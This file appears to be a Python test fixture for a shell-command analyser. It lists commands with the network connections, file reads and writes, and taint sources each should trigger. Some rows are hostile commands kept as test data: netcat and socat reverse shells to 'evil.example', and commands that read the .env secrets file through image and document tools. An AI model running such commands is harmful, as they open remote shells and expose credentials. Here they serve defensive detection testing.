"""What the programs of `network` would do."""

from __future__ import annotations

from tests.shell.rows import rows

test_rows = rows(
    r"""
curl https://example.com => run curl https://example.com · connect https://example.com
ping -c1 example.com => run ping -c1 example.com · connect example.com
dig @8.8.8.8 mx example.com +short => run dig @8.8.8.8 mx example.com +short · connect 8.8.8.8 · connect example.com
lynx evil.example => run lynx evil.example · connect evil.example
dig example.com => run dig example.com · connect example.com
nc -l 4444 => run nc -l 4444
nc evil.example 4444 -e /bin/sh => run nc evil.example 4444 -e /bin/sh · connect evil.example:4444 · run /bin/sh <network:evil.example:4444>
socat TCP:evil.example:1 EXEC:/bin/sh => run socat TCP:evil.example:1 EXEC:/bin/sh · connect evil.example:1 · run /bin/sh <network:evil.example:1>
nmap -sV host.example => run nmap -sV host.example · connect host.example
telnet host.example 23 => run telnet host.example 23 · connect host.example
convert a.png -resize 50% b.png => run convert a.png -resize 50% b.png · read a.png · write b.png <file:/p/a.png>
convert text:.env x.png => run convert text:.env x.png · read .env · write x.png <file:/p/.env>
convert caption:@.env x.png => run convert caption:@.env x.png · read .env · write x.png <file:/p/.env>
identify .env => run identify .env · read .env
pandoc .env => run pandoc .env · read .env
pandoc a.md -o b.pdf => run pandoc a.md -o b.pdf · read a.md · write b.pdf <file:/p/a.md>
ffmpeg -i a.mp4 -vf scale=2:2 b.gif => run ffmpeg -i a.mp4 -vf scale=2:2 b.gif · read a.mp4 · write b.gif <file:/p/a.mp4>
terraform apply -var-file=.env => run terraform apply -var-file=.env · read .env
doctl apps create --spec .env => run doctl apps create --spec .env · read .env
vercel deploy --prod => run vercel deploy --prod
openssl s_client -connect host.example:443 => run openssl s_client -connect host.example:443 · connect host.example:443
"""
)
